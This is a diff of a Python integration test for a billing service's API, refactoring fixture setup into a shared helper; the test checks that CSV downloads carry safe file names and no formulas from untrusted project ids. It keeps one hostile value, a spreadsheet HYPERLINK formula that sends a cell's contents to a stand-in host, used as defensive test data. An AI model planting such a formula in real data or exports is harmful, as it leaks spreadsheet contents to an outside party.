@@ -4,7 +4,6 @@ gets a 4xx with the JSON error body, none a 500; downloads carry safe names and 
 
 from __future__ import annotations
 
-import asyncio
 import csv
 import datetime as dt
 import io
@@ -18,15 +17,12 @@ from urllib.parse import quote
 import httpx
 import pytest
 
-from services.billing import cli
-from services.common.kafka_admin import ensure_topics
+from tests.fixtures.billing import billing_process, hourly, produce_hourly
 from tests.fixtures.processes import ServiceProcess, wait_until
-from tests.integration.test_billing_api import hourly, produce
 
 ADMIN = {"Authorization": "Bearer adm-token"}
 PROJECT = {"Authorization": "Bearer llm-token"}
 TOKENS = "adm-token=admin,llm-token=project:hkgai-llm"
-SAMPLE_CATALOG = Path(__file__).resolve().parents[2] / "deploy" / "catalog.sample.yaml"
 HOSTILE_PROJECT = '=HYPERLINK("evil.example?q="&A1,"x")'
 SAFE_NAME_CHARS = frozenset("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789._-")
 
@@ -78,19 +74,16 @@ def billing(
     tmp_path: Path,
     monkeypatch: pytest.MonkeyPatch,
 ) -> Iterator[tuple[httpx.Client, ServiceProcess]]:
-    env = {
-        "KAFKA_BOOTSTRAP_SERVERS": bootstrap_servers,
-        "DATABASE_URL": database_url,
-        "TOPIC_PREFIX": topic_prefix,
-        "HTTP_PORT": str(http_port),
-        "KAFKA_REBALANCE_TIMEOUT_MS": "3000",
-        "API_TOKENS": TOKENS,
-    }
-    for name, value in env.items():
-        monkeypatch.setenv(name, value)  # the CLI, run in this process, reads the same settings
-    assert cli.main(["catalog", "apply", str(SAMPLE_CATALOG)]) == 0
-    asyncio.run(ensure_topics(bootstrap_servers, {f"{topic_prefix}metering.usage.hourly.v1": 2}))
-    service = ServiceProcess("services.billing", env, tmp_path / "billing.log", http_port).start()
+    service = billing_process(
+        bootstrap_servers,
+        database_url,
+        topic_prefix,
+        http_port,
+        tmp_path / "billing.log",
+        monkeypatch,
+        hourly_partitions=2,
+        API_TOKENS=TOKENS,
+    ).start()
     client = httpx.Client(base_url=f"http://127.0.0.1:{http_port}", timeout=10)
     yield client, service
     client.close()
@@ -172,7 +165,7 @@ def test_downloads_carry_safe_file_names_and_no_formulas_from_untrusted_ids(
     client, service = billing
     # Given usage of a project whose id, from Kafka, is a spreadsheet formula
     hour = dt.datetime(2026, 11, 12, 1, tzinfo=dt.UTC)
-    produce(
+    produce_hourly(
         bootstrap_servers,
         f"{topic_prefix}metering.usage.hourly.v1",
         [hourly(HOSTILE_PROJECT, hour, "3600", 1), hourly("hkgai-llm", hour, "7200", 1)],
